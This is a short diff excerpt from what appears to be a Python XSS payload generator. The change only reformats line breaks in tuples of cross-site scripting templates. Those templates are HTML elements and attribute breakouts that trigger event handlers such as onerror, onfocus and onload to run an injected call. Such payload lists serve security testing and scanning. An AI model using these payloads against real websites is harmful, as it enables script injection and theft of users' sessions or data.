@@ -34,11 +34,13 @@ ELEMENTS = (
     "<style onload={call}></style>", "<marquee onstart={call}>x</marquee>",
     "<svg><animate onbegin={call} attributeName=x dur=1s>",
     "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<template><script>{call}</script></template>",
-    "<select autofocus onfocus={call}>", "<textarea autofocus onfocus={call}>",
+    "<select autofocus onfocus={call}>",
+    "<textarea autofocus onfocus={call}>",
     "<x contenteditable autofocus onfocus={call}>x</x>",
 )  # fmt: skip
 ATTRIBUTES = (
-    '" onmouseover="{call}" x="', "' onfocus='{call}' autofocus='", '" autofocus onfocus={call} x="', "` onload={call} `",
+    '" onmouseover="{call}" x="', "' onfocus='{call}' autofocus='", '" autofocus onfocus={call} x="',
+    "` onload={call} `",
     '" style="animation-name:x" onanimationstart="{call}', '" onerror={call} src=x "', "x onclick={call} ",
 )  # fmt: skip
 MARKDOWN = (
